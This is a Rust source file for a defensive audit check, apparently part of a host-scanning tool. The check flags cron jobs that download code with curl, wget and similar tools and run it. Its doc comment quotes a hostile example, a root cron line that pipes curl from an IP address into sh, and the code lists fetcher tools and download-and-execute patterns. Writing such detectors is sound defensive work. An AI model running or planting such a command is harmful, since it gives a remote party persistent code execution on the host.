//! Jobs that run what they download.

use super::jobs;
use crate::check::{Cx, Skip, check};
use crate::facts::cron::shell::{self, Pipeline, Stage};
use casemate_schema::Severity;

check! {
    /// # What it checks
    /// No job may hand what it downloads (`curl`, `wget`, ...) to a shell or interpreter: through a pipe,
    /// `bash <(...)`, `sh -c "$(...)"`, or a file that the same job downloads and then runs.
    ///
    /// # Why it matters
    /// Whoever controls that server, its name or (without TLS) the network runs commands here, again at each
    /// turn of the clock. It is also how coin miners stay on a host.
    ///
    /// # Example
    /// `*/10 * * * * root curl -fsSL http://203.0.113.7/i.sh | sh`
    ///
    /// # Instead
    /// Install the script as a file that root owns and review it before each change. If you do not know the job,
    /// keep a copy of it, remove it, and look for what else its author did.
    id: "cron-download-and-run",
    surface: Cron,
    title: "Job runs what it downloads",
    severity: High,
    references: [Cwe "CWE-494", Attack "T1053.003", Attack "T1105"],
}

const FETCHERS: [&str; 8] = [
    "curl",
    "wget",
    "fetch",
    "aria2c",
    "lwp-request",
    "GET",
    "lynx",
    "ftp",
];

fn run(cx: &mut Cx<'_>) -> Result<(), Skip> {
    let cron = jobs(cx)?;
    for job in &cron.jobs {
        let found = job
            .pipelines
            .iter()
            .any(|pipeline| piped(pipeline) || substituted(pipeline));
        if found || saved_and_run(&job.pipelines) {
            let hit = job.hit(format!(
                "A job of `{}` in `{}` runs what it downloads",
                job.user,
                job.file.display()
            ));
            let severity = if job.is_root(&cron.accounts) {
                Severity::Critical
            } else {
                Severity::High
            };
            cx.hit(hit.severity(severity));
        }
    }
    Ok(())
}

/// `curl ... | sh`, also with `tee`, `gunzip` or `sudo` between.
fn piped(pipeline: &Pipeline) -> bool {
    let fetched = pipeline
        .iter()
        .position(|call| shell::stages(call).iter().any(|stage| stage.is(&FETCHERS)));
    fetched.is_some_and(|position| {
        pipeline.iter().skip(position + 1).any(|call| {
            let stages = shell::stages(call);
            stages.iter().any(super::reads_code)
        })
    })
}

/// `sh -c "$(curl ...)"`, `bash <(curl ...)`, `eval $(curl ...)`.
fn substituted(pipeline: &Pipeline) -> bool {
    pipeline.iter().any(|call| {
        shell::stages(call).iter().any(|stage| {
            let runs = stage.is_interpreter() || stage.is(&["eval", ".", "source"]);
            // With `-c 'text $(...)'` in single quotes the text is looked at as shell text itself.
            runs && stage
                .arguments
                .iter()
                .flat_map(|word| &word.nested)
                .any(|text| {
                    let calls = shell::pipelines(text);
                    calls
                        .iter()
                        .flatten()
                        .flat_map(shell::stages)
                        .any(|stage| stage.is(&FETCHERS))
                })
        })
    })
}

/// `wget -O /tmp/x URL && sh /tmp/x`.
fn saved_and_run(pipelines: &[Pipeline]) -> bool {
    let mut saved: Vec<&str> = Vec::new();
    for stage in pipelines.iter().flatten().flat_map(shell::stages) {
        let run = stage.script().unwrap_or(stage.program);
        if saved.contains(&run.text.as_str()) {
            return true;
        }
        if stage.is(&FETCHERS) {
            saved.extend(target(stage));
        }
    }
    false
}

fn target<'a>(stage: Stage<'a>) -> Option<&'a str> {
    let names = ["-o", "-O", "--output", "--output-document"];
    let position = stage.arguments.iter().position(|word| {
        let text = word.text.as_str();
        let cluster =
            text.starts_with('-') && !text.starts_with("--") && text.ends_with(['o', 'O']);
        names.contains(&text) || cluster
    })?;
    let target = stage.arguments.get(position + 1)?;
    (target.text != "-").then_some(target.text.as_str())
}
